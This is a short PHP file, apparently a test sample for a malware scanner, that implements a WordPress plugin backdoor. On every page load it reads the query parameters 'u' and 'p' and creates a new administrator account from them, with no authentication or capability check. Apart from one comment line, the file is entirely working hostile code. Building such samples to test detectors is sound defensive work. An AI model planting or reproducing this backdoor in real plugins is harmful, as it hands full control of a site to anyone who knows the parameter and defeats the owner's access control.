<?php
// spamgear test sample: a WordPress plugin file that makes whoever knows a
// query parameter an administrator.
add_action('init', function () {
    if (!empty($_GET['u']) && !username_exists($_GET['u'])) {
        $id = wp_insert_user(array('user_login' => $_GET['u'], 'user_pass' => $_GET['p'],
                                   'role' => 'administrator'));
    }
});
